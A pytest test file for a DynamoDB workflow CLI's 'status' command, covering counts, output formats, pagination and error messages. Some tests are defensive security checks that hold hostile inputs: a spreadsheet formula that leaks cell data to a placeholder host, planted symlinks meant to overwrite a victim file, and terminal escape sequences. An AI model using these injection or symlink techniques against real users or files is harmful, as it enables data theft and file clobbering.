from __future__ import annotations

import json
import os
import re
import signal
import stat
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from anamo.core.item import State
from anamo.operator.html.report_file import is_replaceable
from anamo.operator.table_scan import FIRST_PAGE
from tests.operator.conftest import HOSTILE, Workflow
from tests.support import workflow
from tests.support.proxy import Forward, Proxy, Reply, Request, failing, on, passing
from tests.support.scripts import ROOT
from tests.support.table import Table, workflow_table
from tests.support.waiting import eventually

Run = Callable[..., Any]


def tasks_of(items: list[dict[str, Any]]) -> Counter[str]:
    counted: Counter[str] = Counter()
    for item in items:
        if isinstance(item["TaskScript"], dict):
            counted.update(task["Status"] for task in item["TaskScript"].values())
        else:
            state = item["ItemState"]
            counted[state if state in ("done", "failed") else "todo"] += 1
    return counted


def test_json_counts_every_item_and_every_task(run: Run, steps: Workflow) -> None:
    ended = run("pyanamo.py", "status", "-t", *steps.names, "--output", "json")
    assert (ended.returncode, ended.stderr) == (0, "")
    for step, found in enumerate(json.loads(ended.stdout)):
        tasks = tasks_of(steps.items[step])
        locked = [item for item in steps.items[step] if item["ItemState"] == "locked"]
        live = [item for item in locked if item.get("Lease_Expires", 0) > time.time()]
        assert found == {
            "table": steps.names[step],
            **dict.fromkeys(map(str, State), 0),
            **steps.states(step),
            "total": len(steps.items[step]),
            "tasks": {
                "todo": tasks["todo"],
                "done": tasks["done"],
                "failed": tasks["failed"],
                "total": tasks.total(),
            },
            "workers": len({item["InstanceID"] for item in live}),
            "expired": len(locked) - len(live),
        }
    assert (found["paused"], found["Zurück"]) == (3, 1)


def test_an_empty_table_has_zeros(run: Run, table: Table) -> None:
    ended = run("pyanamo.py", "status", "-t", table.name, "--output", "json")
    (found,) = json.loads(ended.stdout)
    assert (found["total"], found["tasks"]["total"], found["workers"]) == (0, 0, 0)
    assert run("pyanamo.py", "status", "-t", table.name).returncode == 0


def test_tsv_has_a_heading_and_a_line_a_step(run: Run, steps: Workflow) -> None:
    ended = run("pyanamo.py", "status", "-t", *steps.names, "--output", "tsv")
    heading, *lines = [line.split("\t") for line in ended.stdout.splitlines()]
    assert [line[0] for line in lines] == steps.names
    row = dict(zip(heading, lines[2], strict=True))
    assert row["done"] == "130"
    assert row["other"] == "Zur\u00fcck=1,paused=3"


def test_people_see_counts_causes_and_what_to_type(run: Run, steps: Workflow) -> None:
    name = steps.names[1]
    shown = run("pyanamo.py", "status", "-t", name, "-r", "us-east-1").stdout
    assert "killed by signal 9" in shown
    assert "Failed to open file <taskID>.bam" in shown
    assert f"python pyanamo.py requeue -t {name} -r us-east-1 --state failed\n" in shown
    assert f"python pyanamo.py requeue -t {name} -r us-east-1 --state locked\n" in shown
    assert not [line for line in shown.splitlines() if line != line.rstrip()]
    counts = [int(line.split()[0]) for line in shown.splitlines() if " exit " in line[:20]]
    assert counts == sorted(counts, reverse=True)


def test_nothing_of_a_table_is_obeyed_by_a_terminal(typing: Run, run: Run, steps: Workflow) -> None:
    for words in (["--state", "failed"], ["--by-task"], []):
        shown = typing("status", "-t", steps.names[0], *words).stdout
        assert "\x1b]0;" not in shown
        assert '\x1b[31m"' not in shown
        assert "\\x1b[31m" in shown or not words
    words = ["-t", steps.names[0], "--state", "failed", "--output", "json"]
    items = run("pyanamo.py", "status", *words)
    assert HOSTILE in [item["taskID"] for item in json.loads(items.stdout)]


def test_the_bar_of_a_terminal_fits_into_80_columns(typing: Run, steps: Workflow) -> None:
    shown = typing("status", "-t", *steps.names, columns=80).stdout
    assert "\u2501" in shown
    for heading in ("locked", "tasks ended", "expired"):
        assert heading in shown.splitlines()[0]
    assert "3 paused" in shown


def test_by_task_says_where_each_sample_is(run: Run, steps: Workflow) -> None:
    ended = run("pyanamo.py", "status", "-t", *steps.names, "--by-task", "--output", "tsv")
    rows = {line.split("\t")[0]: line.split("\t")[1:] for line in ended.stdout.splitlines()}
    assert rows.pop("taskID") == steps.names
    assert rows["Sample1"] == ["done", "done", "done"]
    assert rows["Half"] == ["", "todo", ""]
    assert list(rows)[list(rows).index("Sample9") + 1] == "Sample10"
    expected = {item["taskID"] for items in steps.items for item in items}
    assert len(rows) == len(expected)


def test_by_task_counts_items_that_share_a_task_id(run: Run, small: Any) -> None:
    items = [workflow.item("One", "done", itemID=1), workflow.item("One", "failed", itemID=2)]
    table = small(*items, workflow.item("One", "done", itemID=3))
    ended = run("pyanamo.py", "status", "-t", table.name, "--by-task", "--output", "json")
    assert json.loads(ended.stdout) == [
        {"taskID": "One", "steps": {table.name: {"done": 2, "failed": 1}}}
    ]
    shown = run("pyanamo.py", "status", "-t", table.name, "--by-task").stdout
    assert "2 done, 1 failed" in shown


def test_items_of_a_state_say_what_there_is_to_know(run: Run, small: Any) -> None:
    entry = workflow.entry("S", 3, "Execution Failed: exit 3", "no space left")
    item = workflow.item("S", "failed", 2, Log={"Task_0": workflow.entry("S"), "Task_1": entry})
    item["TaskScript"]["Task_0"]["Status"] = "done"
    table = small(item)
    words = ["status", "-t", table.name, "--state", "failed"]
    ended = run("pyanamo.py", *words, "--output", "json")
    assert json.loads(ended.stdout) == [
        {
            "table": table.name,
            "itemID": item["itemID"],
            "taskID": "S",
            "state": "failed",
            "tasks_ended": 2,
            "tasks_total": 2,
            "instance": item["InstanceID"],
            "since": item["Done_Date"],
            "exit_codes": [3],
            "stderr": "no space left",
        }
    ]
    assert "no space left" in run("pyanamo.py", *words, "--output", "tsv").stdout
    assert "1 failed task, by cause" in run("pyanamo.py", *words).stdout


def test_a_state_without_items_is_said_to_have_none(run: Run, small: Any) -> None:
    words = ["status", "-t", small(workflow.item("A", "todo")).name, "--state", "failed"]
    for form, shown in (("table", 0), ("tsv", 1)):
        ended = run("pyanamo.py", *words, "--output", form)
        assert (ended.returncode, ended.stderr) == (0, "pyanamo.py: no item is failed\n")
        # Scripts get the headings all the same
        assert len(ended.stdout.splitlines()) == shown


FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1)'


def test_a_spreadsheet_finds_no_formula_in_tsv(run: Run, small: Any) -> None:
    ids = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", '"=1+1"', "-1", "+2.5e3", "a=b", "-"]
    entry = workflow.entry("S", 3, "Execution Failed: exit 3", FORMULA)
    table = small(*(workflow.item(task_id, "failed", Log=entry) for task_id in ids))
    words = ["status", "-t", table.name, "--output", "tsv"]
    listed = run("pyanamo.py", *words, "--state", "failed").stdout.splitlines()[1:]
    by_task = run("pyanamo.py", *words, "--by-task").stdout.splitlines()[1:]
    inert = {"-1", "+2.5e3", "a=b"}
    expected = sorted(task_id if task_id in inert else f"'{task_id}" for task_id in ids)
    assert sorted(line.split("\t")[2] for line in listed) == expected
    assert sorted(line.split("\t")[0] for line in by_task) == expected
    assert {line.split("\t")[-1] for line in listed} == {f"'{FORMULA}"}
    # Whoever reads JSON gets what the table has
    found = json.loads(run("pyanamo.py", *words[:-1], "json", "--state", "failed").stdout)
    assert {item["taskID"] for item in found} == set(ids)


def write_report(run: Run, table: Table, before: str, file: Path) -> Any:
    """Have the report written, by a shell that first does something else under the same pid."""
    command = [sys.executable, ROOT / "pyanamo.py", "status", "-t", table.name, "--html", file]
    return run("bash", "-c", f'{before}; exec "$@"', "bash", *command)


def test_a_report_is_written_through_no_link_that_others_put_there(
    run: Run, table: Table, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious")
    folder = tmp_path / "shared"
    folder.mkdir()
    report = folder / "report.html"
    # Names that can be guessed from the report's and the process's
    names = ["report.html", ".report.html.$$", "report.html.tmp", ".report.html.tmp"]
    links = "; ".join(f"ln -s {victim} {folder}/{name}" for name in names)
    ended = write_report(run, table, f"{links}; umask 027", report)
    assert ended.returncode == 0, ended.stderr
    assert re.search(r"report\.html \([1-9]\d* kB\)", ended.stderr)
    assert victim.read_text() == "precious"
    assert not report.is_symlink()
    assert "</html>" in report.read_text()
    assert stat.S_IMODE(report.stat().st_mode) == 0o640
    assert not [path for path in folder.iterdir() if not path.is_symlink() and path != report]


def test_a_report_that_cannot_be_written_leaves_nothing_behind(
    run: Run, table: Table, tmp_path: Path
) -> None:
    folder = tmp_path / "folder"
    (folder / "report.html").mkdir(parents=True)
    ended = write_report(run, table, "umask 022", folder / "report.html")
    assert ended.returncode == 2
    assert "report.html cannot be written: Is a directory" in ended.stderr
    assert [path.name for path in folder.iterdir()] == ["report.html"]


def test_a_report_takes_the_place_of_a_file_only(run: Run, table: Table, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    ended = run("pyanamo.py", "status", "-t", table.name, "--html", str(pipe))
    assert ended.returncode == 2
    assert f"{pipe} cannot be written: it is not a regular file" in ended.stderr
    assert pipe.is_fifo()
    # Asked for by name only: as root, a command without the guard would replace it on this machine
    assert not is_replaceable(Path("/dev/stdout"))
    assert is_replaceable(tmp_path / "new.html")


def without_pages(request: Any, forward: Any) -> Reply | None:
    """Answer each query as if its first page were all there is."""
    reply = forward(request)
    if request.operation != "Query" or reply.status != 200:
        return reply  # type: ignore[no-any-return]
    return Reply.of({k: v for k, v in reply.json.items() if k != "LastEvaluatedKey"})


def test_every_page_is_followed_of_ids_from_one_on_too(
    run: Run, dynamodb: str, make_proxy: Callable[[str], Proxy], small: Any
) -> None:
    long = "x" * 4000
    items = [
        workflow.item(f"T{k}", "done" if k % 2 else "todo", TaskScript=long, itemID=k)
        for k in range(1, 1201)
    ]
    command = ["pyanamo.py", "status", "-t", small(*items).name, "--output", "json"]
    (found,) = json.loads(run(*command).stdout)
    assert (found["todo"], found["done"]) == (600, 600)
    proxy = make_proxy(dynamodb)
    proxy.behaviour = without_pages
    cut = run(*command, env={"AWS_ENDPOINT_URL_DYNAMODB": proxy.url})
    assert json.loads(cut.stdout)[0]["total"] < 1200, "the test would not notice"


@pytest.mark.parametrize(
    "ids",
    [
        [*range(FIRST_PAGE)],
        [*range(FIRST_PAGE + 1)],
        [*range(FIRST_PAGE - 1), Decimal("1E+125")],
        [*range(FIRST_PAGE - 1), Decimal("1E+40"), Decimal("1E+125")],
        [Decimal("-1E+40"), Decimal("-1.5"), *range(FIRST_PAGE)],
        [Decimal("-1E+125"), *(Decimal(f"{k}E+39") for k in range(-FIRST_PAGE, 0)), 5],
    ],
    ids=["full", "one-more", "ends-far-off", "goes-on-far-off", "below-0", "far-below-0"],
)
def test_every_item_is_listed_once_where_the_first_page_ends(
    run: Run, small: Any, ids: list[Any]
) -> None:
    name = small(*(workflow.item(f"T{key}", "todo", itemID=key) for key in ids)).name
    (counts,) = json.loads(run("pyanamo.py", "status", "-t", name, "--output", "json").stdout)
    assert counts["todo"] == counts["total"] == len(ids)
    listed = run("pyanamo.py", "status", "-t", name, "--state", "todo", "--output", "tsv").stdout
    assert sorted(line.split("\t")[2] for line in listed.splitlines()[1:]) == sorted(
        f"T{key}" for key in ids
    )


def test_throttling_slows_down_and_changes_nothing(
    run: Run, dynamodb: str, make_proxy: Callable[[str], Proxy], steps: Workflow
) -> None:
    proxy = make_proxy(dynamodb)
    proxy.behaviour = on("Query", failing("ProvisionedThroughputExceededException"), 6)
    ended = run(
        "pyanamo.py", "status", "-t", steps.names[1], "--output", "json",
        env={"AWS_ENDPOINT_URL_DYNAMODB": proxy.url},
    )  # fmt: skip
    assert json.loads(ended.stdout)[0]["total"] == len(steps.items[1])
    proxy.behaviour = passing


@pytest.mark.parametrize(
    ("words", "code", "said"),
    [
        (["status", "-t", "Nowhere"], 3, "table Nowhere does not exist in us-east-1"),
        (["status", "-t", "{}", "--state", "wat"], 2, "no item is in state wat; states: todo"),
        (["status", "-t", "{}", "--watch", "--output", "json"], 2, "--watch cannot be combined"),
        (["status", "-t", "{}", "--check", "--output", "json"], 2, "--check cannot be combined"),
        (["status", "-t", "{}", "--html", "/nowhere/x.html"], 2, "cannot be written"),
        (["logs", "-t", "Nowhere", "x"], 3, "table Nowhere does not exist"),
        (["logs", "-t", "{}"], 2, "whose logs?"),
        (["logs", "-t", "{}", "Nobody"], 2, "no item has the taskID or itemID Nobody"),
        (["requeue", "-t", "{}", "--state", "todo"], 2, "items that are todo cannot be requeued"),
        (["requeue", "-t", "{}", "--state", "wat"], 2, "no item is in state wat"),
        (["remove", "-t", "Nowhere", "--state", "done"], 3, "table Nowhere does not exist"),
        (["stat", "-t", "{}"], 2, "did you mean status?"),
    ],
)
def test_what_is_wrong_is_said_in_a_line(
    run: Run, table: Table, words: list[str], code: int, said: str
) -> None:
    ended = run("pyanamo.py", *(word.format(table.name) for word in words))
    assert ended.returncode == code
    assert said in ended.stderr.splitlines()[0]
    assert ended.stdout == ""


def test_every_form_says_once_which_indexes_are_wide_and_what_they_cost(
    run: Run, dynamodb_client: Any, tmp_path: Path
) -> None:
    forms = ["", "--output json", "--output tsv", "--by-task", "--state done", "S1", "--check"]
    forms += ["--watch 1", f"--html {tmp_path / 'report.html'}"]
    with workflow_table(dynamodb_client, wide=True) as table:
        workflow.put_all(dynamodb_client, table, [workflow.item("S1", "done")])
        names = "InstanceStateIndex, ItemStateIndex, LoggingIndex, TaskStateIndex"
        said = f"table {table.name}: its indexes hold whole items ({names}): each KB of an item"
        for form in forms:
            ended = run("pyanamo.py", "status", "-v", "-t", table.name, *form.split())
            assert ended.returncode == 0, ended.stderr
            [line] = [line for line in ended.stderr.splitlines() if "its indexes hold" in line]
            assert said in line
            assert "up to 7 more times when its state changes and 3 more with a heartbeat" in line


@pytest.mark.parametrize("command", ["status", "logs", "requeue", "remove"])
def test_help_has_an_example_and_loads_no_boto3(run: Run, command: str) -> None:
    ended = run("pyanamo.py", command, "--help", env={"PYTHONPROFILEIMPORTTIME": "1"})
    assert f"example:\n  python pyanamo.py {command} -t " in ended.stdout
    assert "anamo.cli.operator_commands" in ended.stderr
    assert "botocore" not in ended.stderr
    assert "rich" not in ended.stderr


def test_watch_stays_in_place_and_ends_with_the_work(typing: Run, small: Any) -> None:
    table = small(workflow.item("A", "done"), workflow.item("B", "failed"))
    ended = typing("status", "-t", table.name, "--watch", "1")
    assert ended.returncode == 0
    assert f"{table.name}: finished, 1 failed" in ended.stdout
    assert "read units per refresh" in ended.stdout


def test_watch_sees_the_rate(start: Run, small: Any, dynamodb_client: Any) -> None:
    table = small(*(workflow.item(f"T{k}") for k in range(20)))
    watching = start("pyanamo.py", "status", "-t", table.name, "--watch", "0.2")
    nothing = f"no worker is active on {table.name}"
    eventually(lambda: nothing in watching.stdout)
    now = time.time()
    ended: Any = {"Lock_Date": workflow.stamp(now - 20), "Done_Date": workflow.stamp(now - 10)}
    lease: Any = {"Lock_Date": workflow.stamp(now), "Lease_Expires": int(now) + 600}
    done = [workflow.item(f"T{k}", "done", **ended) for k in range(10)]
    locked = workflow.item("T10", "locked", **lease)
    workflow.put_all(dynamodb_client, table, [*done, locked])
    eventually(lambda: "to go" in watching.stdout)
    workflow.put_all(dynamodb_client, table, [workflow.item(f"T{k}", "done") for k in range(20)])
    last = watching.wait()
    assert last.returncode == 0
    assert last.stdout.count(f"{table.name}: finished\n") == 1


def test_watch_shows_two_tables_until_both_are_finished(
    start: Run, small: Any, dynamodb_client: Any
) -> None:
    done = [workflow.item("A", "done"), workflow.item("B", "done")]
    first, second = small(done[0]), small(workflow.item("B"))
    tables = ["-t", first.name, "-t", second.name]
    watching = start("pyanamo.py", "status", *tables, "--watch", "0.2")
    eventually(lambda: f"no worker is active on {second.name}" in watching.stdout)
    assert watching.process.poll() is None
    workflow.put_all(dynamodb_client, second, done[1:])
    ended = watching.wait()
    assert ended.returncode == 0
    blocks = ended.stdout.split("read units per refresh\n")[:-1]
    assert len(blocks) > 1
    for table in (first, second):
        assert all(f"{table.name} " in block for block in blocks)
        assert f"{table.name}: finished\n" in blocks[-1]
    assert f"{second.name}: finished" not in blocks[0]


@pytest.mark.long
def test_50000_items_are_counted_right(run: Run, table: Table, dynamodb_client: Any) -> None:
    items = list(workflow.run_of(50_000, 3, {"done": 0.6, "failed": 0.02, "locked": 0.01}))
    workflow.put_all(dynamodb_client, table, items)
    shown, ended = (
        run("pyanamo.py", "status", "-t", table.name, *form, "-v", timeout=600)
        for form in ((), ("--output", "json"))
    )
    for each in (shown, ended):
        assert each.returncode == 0, each.stderr
        units = re.search(r"([0-9,.]+) read units", each.stderr)
        assert units
        assert float(units[1].replace(",", "")) < 1_800
    (found,) = json.loads(ended.stdout)
    states, tasks = Counter(item["ItemState"] for item in items), tasks_of(items)
    assert {state: found[state] for state in states} == states
    assert found["total"] == 50_000
    assert found["tasks"] == {**tasks, "total": 150_000}


def test_an_endpoint_that_does_not_answer_is_named_meanwhile(
    start: Run, dynamodb: str, make_proxy: Callable[[str], Proxy]
) -> None:
    answered = threading.Event()

    def silent(request: Request, forward: Forward) -> Reply | None:  # noqa: ARG001
        answered.wait(60)
        return None

    proxy = make_proxy(dynamodb)
    proxy.behaviour = silent
    env = {"AWS_ENDPOINT_URL_DYNAMODB": proxy.url}
    status = start("pyanamo.py", "status", "-t", "Testing", env=env)
    try:
        said = f"pyanamo.py: waiting for DynamoDB at {proxy.url} (us-east-1): no response for 5 s; "
        eventually(lambda: said in status.stderr)
    finally:
        answered.set()
        status.signal(signal.SIGINT)
    assert status.wait().returncode in (3, 130)
